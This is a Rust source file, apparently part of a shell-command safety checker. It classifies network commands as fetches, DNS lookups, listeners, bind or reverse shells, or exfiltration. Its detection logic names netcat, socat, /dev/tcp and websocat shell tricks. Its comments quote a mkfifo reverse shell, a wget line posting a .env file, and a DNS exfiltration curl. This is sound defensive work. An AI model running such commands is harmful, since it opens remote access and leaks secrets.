//! The network: fetches and remote access, DNS, listeners, shells wired to
//! sockets, and data smuggled out in host names.

use aq_shell::{Command, is_shell};

use super::{Ctx, operands, subcommand};
use crate::catalog::RuleId;

fn is_dev_tcp(path: &str) -> bool {
    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
}

/// Whether an argument of socat runs a program.
fn socat_exec(arg: &str) -> bool {
    let l = arg.to_ascii_lowercase();
    l.starts_with("exec:")
        || l.starts_with("system:")
        || l.contains(",exec:")
        || l.starts_with("exec,")
}

fn nc_exec(c: &Command) -> bool {
    c.args().iter().any(|a| {
        matches!(
            a.text.as_str(),
            "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec"
        ) || a.text.starts_with("--exec=")
            || a.text.starts_with("--sh-exec=")
            || a.text.starts_with("-e/")
            || (a.text.starts_with('-')
                && !a.text.starts_with("--")
                && a.text.len() > 2
                && a.text.ends_with('e')
                && a.text[1..].chars().all(|c| c.is_ascii_alphabetic()))
    })
}

fn nc_listens(c: &Command) -> bool {
    c.args().iter().any(|a| {
        a.text.starts_with('-') && !a.text.starts_with("--") && a.text.contains('l')
            || a.text == "--listen"
    })
}

/// Whether a command that redirects to `/dev/tcp` only opens and closes
/// the connection: no program (`</dev/tcp/H/P`), `:`, `true`, or `echo`
/// of nothing (`echo > /dev/tcp/H/P`): a port probe, no shell behind it.
fn only_probes(c: &Command) -> bool {
    match c.program() {
        None => c.argv.is_empty(),
        Some(":" | "true") => true,
        Some("echo") => c.args().iter().all(|a| a.text.starts_with('-')),
        Some(_) => false,
    }
}

/// `websocat`'s addresses and options that run a program on the socket:
/// `exec:PROG`, `sh-c:CMD`, `cmd:CMD`, `--exec PROG`.
fn websocat_exec(c: &Command) -> bool {
    c.args().iter().any(|a| {
        let l = a.text.to_ascii_lowercase();
        l.starts_with("exec:")
            || l.starts_with("sh-c:")
            || l.starts_with("cmd:")
            || l == "--exec"
            || l.starts_with("--exec=")
    })
}

/// `xterm -display HOST:N` (or `DISPLAY=HOST:N xterm`): a terminal, with
/// its shell, shown on another machine's X server.
fn remote_display(c: &Command) -> Option<String> {
    let args = c.args();
    let value = args
        .iter()
        .enumerate()
        .find_map(|(k, a)| {
            matches!(a.text.as_str(), "-display" | "--display" | "-d")
                .then(|| args.get(k + 1).map(|w| w.text.clone()))
                .flatten()
        })
        .or_else(|| {
            c.assignments
                .iter()
                .find(|a| a.name == "DISPLAY")
                .map(|a| a.value.text.clone())
        })?;
    let (host, _) = value.rsplit_once(':')?;
    let local = host.is_empty()
        || matches!(host, "localhost" | "127.0.0.1" | "::1" | "unix")
        || host.starts_with("/tmp/");
    (!local).then_some(value)
}

pub(crate) fn check(ctx: &mut Ctx, i: usize) {
    let c = &ctx.commands()[i];
    // Bash's /dev/tcp and /dev/udp, on any command (`exec 3<>/dev/tcp/...`).
    if let Some(r) = c.redirects.iter().find(|r| is_dev_tcp(&r.target.text)) {
        let target = r.target.text.clone();
        if only_probes(c) {
            ctx.hit(
                RuleId::NetFetch,
                i,
                format!("opens and closes a connection to {target} (a port probe)"),
            );
        } else {
            ctx.hit(
                RuleId::NetReverseShell,
                i,
                format!("opens a socket with {target}"),
            );
        }
        return;
    }
    let Some(name) = c.program() else {
        return;
    };
    let c = &ctx.commands()[i];
    // `curl --version`, `ssh -V`: asking a tool about itself is not network use.
    if !c.args().is_empty()
        && c.args().iter().all(|a| {
            matches!(
                a.text.as_str(),
                "--version" | "-V" | "--help" | "-h" | "version" | "help"
            )
        })
    {
        return;
    }
    // `curl --help all`, `wget --help | grep proxy`: a help topic is not a host.
    if c.args()
        .first()
        .is_some_and(|a| matches!(a.text.as_str(), "--help" | "-h" | "--manual" | "-M"))
        && c.args()
            .iter()
            .all(|a| !a.text.contains(['/', ':', '.', '@']) && !a.text.contains('='))
    {
        return;
    }
    // zsh's ztcp opens a connection; a shell wired to it is a remote shell.
    if name == "ztcp" {
        let wired = ctx.commands().iter().any(|o| {
            o.program().is_some_and(aq_shell::is_shell)
                && o.redirects.iter().any(|r| r.target.dynamic)
        });
        let rule = if wired {
            RuleId::NetReverseShell
        } else {
            RuleId::NetFetch
        };
        ctx.hit(rule, i, "zsh ztcp opens a connection");
        return;
    }
    match name {
        "websocat" if websocat_exec(c) => {
            let listens = c.args().iter().any(|a| {
                let l = a.text.to_ascii_lowercase();
                l.starts_with("ws-l:")
                    || l.starts_with("l-ws:")
                    || l.starts_with("ws-listen:")
                    || l.starts_with("tcp-l:")
                    || l.starts_with("tcp-listen:")
                    || l == "-s"
                    || l == "--server-mode"
            });
            let rule = if listens {
                RuleId::NetBindShell
            } else {
                RuleId::NetReverseShell
            };
            ctx.hit(rule, i, "websocat attaches a program to a socket");
        }
        "xterm" | "uxterm" | "rxvt" | "urxvt" => {
            if let Some(display) = remote_display(c) {
                ctx.hit(
                    RuleId::NetReverseShell,
                    i,
                    format!("`{name}` shows a terminal with a shell on the X display {display}"),
                );
            }
        }
        "nc" | "ncat" | "netcat" | "nc.openbsd" | "nc.traditional" => {
            if nc_exec(c) {
                let rule = if nc_listens(c) {
                    RuleId::NetBindShell
                } else {
                    RuleId::NetReverseShell
                };
                ctx.hit(rule, i, format!("`{name}` attaches a program to a socket"));
            } else if shell_wired(ctx, i) {
                ctx.hit(
                    RuleId::NetReverseShell,
                    i,
                    "a shell's input or output goes through this connection",
                );
            } else if nc_listens(c) {
                ctx.hit(
                    RuleId::NetListener,
                    i,
                    format!("`{name}` listens on a port"),
                );
            } else {
                ctx.hit(RuleId::NetFetch, i, format!("`{name}` opens a connection"));
            }
        }
        "socat" => {
            let execs = c.args().iter().any(|a| socat_exec(&a.text));
            let listens = c
                .args()
                .iter()
                .any(|a| a.text.to_ascii_lowercase().contains("-listen:"));
            if execs {
                let rule = if listens {
                    RuleId::NetBindShell
                } else {
                    RuleId::NetReverseShell
                };
                ctx.hit(rule, i, "socat attaches a program to a socket");
            } else if listens {
                ctx.hit(RuleId::NetListener, i, "socat listens on a port");
            } else {
                ctx.hit(RuleId::NetFetch, i, "socat opens a connection");
            }
        }
        "telnet" | "openssl"
            if name == "telnet"
                || subcommand(c) == Some("s_client")
                || subcommand(c) == Some("s_server") =>
        {
            if shell_wired(ctx, i) {
                ctx.hit(
                    RuleId::NetReverseShell,
                    i,
                    "a shell's input or output goes through this connection",
                );
            } else {
                ctx.hit(RuleId::NetFetch, i, format!("`{name}` opens a connection"));
            }
        }
        // `getent hosts NAME`: a lookup through NSS, DNS included (with no
        // name it lists /etc/hosts).
        "getent"
            if operands(c).len() >= 2
                && matches!(
                    operands(c)[0].text.as_str(),
                    "hosts" | "ahosts" | "ahostsv4" | "ahostsv6"
                ) =>
        {
            if dns_name_from_output(ctx, i) {
                ctx.hit(
                    RuleId::NetDnsExfil,
                    i,
                    "the name looked up is built from command output",
                );
            } else {
                ctx.hit(RuleId::NetDnsLookup, i, format!("`{}`", c.display()));
            }
        }
        "dig" | "nslookup" | "host" | "drill" | "kdig" | "delv" | "resolvectl" | "whois" => {
            if dns_name_from_output(ctx, i) {
                ctx.hit(
                    RuleId::NetDnsExfil,
                    i,
                    "the name looked up is built from command output",
                );
            } else {
                ctx.hit(RuleId::NetDnsLookup, i, format!("`{}`", c.display()));
            }
        }
        "ping" | "ping6" | "traceroute" | "tracepath" | "mtr" | "arping" | "fping" | "hping3" => {
            if dns_name_from_output(ctx, i) {
                ctx.hit(
                    RuleId::NetDnsExfil,
                    i,
                    "the host name is built from command output",
                );
            } else {
                ctx.hit(
                    RuleId::NetFetch,
                    i,
                    format!("`{name}` sends packets to another host"),
                );
            }
        }
        "curl" | "wget" | "http" | "https" | "xh" | "curlie" | "httpie" | "aria2c" | "axel"
        | "lynx" | "links" | "links2" | "elinks" | "w3m" | "browsh" | "ftp" | "tftp" | "lftp"
        | "ncftp" | "ncftpget" | "ncftpput" | "sftp" | "scp" | "ssh" | "mosh" | "rclone"
        | "smbclient" | "ldapsearch" | "snmpwalk" | "mail" | "sendmail" | "mutt" | "nmap"
        | "masscan" | "grpcurl" | "websocat" | "wscat" | "ssh-keyscan" => {
            if let Some(src) = sends_secret_output(ctx, i) {
                ctx.hit(
                    RuleId::NetExfilSecret,
                    i,
                    format!("sends the output of `{src}`"),
                );
            } else if matches!(name, "curl" | "wget") && host_from_output(ctx, i) {
                ctx.hit(
                    RuleId::NetDnsExfil,
                    i,
                    "the host name is built from command output",
                );
            }
            ctx.hit(
                RuleId::NetFetch,
                i,
                format!("`{name}` talks to another host"),
            );
        }
        "rsync" if operands(c).iter().any(|o| is_remote_spec(&o.text)) => {
            ctx.hit(RuleId::NetFetch, i, "rsync copies to or from another host");
        }
        "git"
            if super::platforms::asks_for_help(
                &c.args().iter().map(|a| a.text.as_str()).collect::<Vec<_>>(),
            ) => {}
        "git" => {
            let sub = git_subcommand(c);
            // `git fetch https://…/r.git main`, `git pull git@host:o/r`: a
            // repository named on the line, not a configured remote.
            let from_url = matches!(sub, Some("fetch" | "pull"))
                && operands(c).iter().any(|o| is_repository_url(&o.text));
            let submodule_fetch = sub == Some("submodule")
                && c.args()
                    .iter()
                    .any(|a| matches!(a.text.as_str(), "update" | "add" | "sync"));
            // `git archive` writes a local tarball unless `--remote` names a host.
            let remote_archive =
                sub == Some("archive") && c.args().iter().any(|a| a.text.starts_with("--remote"));
            if submodule_fetch
                || remote_archive
                || from_url
                || matches!(
                    sub,
                    Some("clone" | "ls-remote" | "request-pull" | "send-email")
                )
            {
                ctx.hit(
                    RuleId::NetFetch,
                    i,
                    format!("`{}` talks to another host", c.display()),
                );
            }
        }
        _ => {}
    }
    // Servers (`python3 -m http.server`, `php -S`, `busybox httpd`) are the
    // capability model's serve modes, judged in `programs`.
}

/// `git [global options] SUBCOMMAND`.
pub(crate) fn git_subcommand(c: &Command) -> Option<&str> {
    let args = c.args();
    let mut k = 0;
    while k < args.len() {
        let t = args[k].text.as_str();
        if matches!(
            t,
            "-C" | "-c"
                | "--git-dir"
                | "--work-tree"
                | "--namespace"
                | "--exec-path"
                | "--config-env"
        ) {
            k += 2;
            continue;
        }
        if t.starts_with('-') {
            k += 1;
            continue;
        }
        return Some(t);
    }
    None
}

/// A repository's URL (`https://…`, `ssh://…`, `git://…`) or scp-like
/// address (`git@host:o/r.git`), not a remote's name, a refspec
/// (`main:main`) or a local path (`file://`, `../other`).
fn is_repository_url(s: &str) -> bool {
    if let Some((scheme, _)) = s.split_once("://") {
        return scheme != "file" && !scheme.is_empty();
    }
    s.split_once(':').is_some_and(|(host, _)| {
        host.contains('@') && !host.contains('/') && !host.starts_with('@')
    })
}

fn is_remote_spec(s: &str) -> bool {
    s.contains("::")
        || s.starts_with("rsync://")
        || s.split_once(':')
            .is_some_and(|(host, _)| !host.is_empty() && !host.contains('/'))
}

/// A host-name argument that contains a substitution.
fn dns_name_from_output(ctx: &Ctx, i: usize) -> bool {
    let c = &ctx.commands()[i];
    operands(c)
        .iter()
        .any(|o| !o.feeds.is_empty() && !o.text.starts_with('@'))
}

/// A URL whose host part is built from command output
/// (`curl https://$(whoami).example.invalid/`).
fn host_from_output(ctx: &Ctx, i: usize) -> bool {
    let c = &ctx.commands()[i];
    operands(c).iter().any(|o| {
        if o.feeds.is_empty() {
            return false;
        }
        let after_scheme = o.text.split_once("://").map(|(_, r)| r).unwrap_or(&o.text);
        let host = after_scheme.split('/').next().unwrap_or("");
        host.contains("$(") || host.contains('`')
    })
}

/// A substitution in the arguments whose command read a secret
/// (`wget --post-data="$(cat .env)"`): the secret goes out. Returns it.
fn sends_secret_output(ctx: &Ctx, i: usize) -> Option<String> {
    let c = &ctx.commands()[i];
    c.args()
        .iter()
        .flat_map(|w| ctx.word_sources(w))
        .find(|&f| ctx.read_a_secret(f))
        .map(|f| ctx.commands()[f].display())
}

/// Whether a shell reads from, or writes into, this command through pipes
/// (the `mkfifo` reverse shell: `cat f | sh -i 2>&1 | nc host port > f`).
fn shell_wired(ctx: &Ctx, i: usize) -> bool {
    let shells = |j: &usize| ctx.commands()[*j].program().is_some_and(is_shell);
    ctx.upstream(i).iter().any(shells) || ctx.downstream(i).iter().any(shells)
}
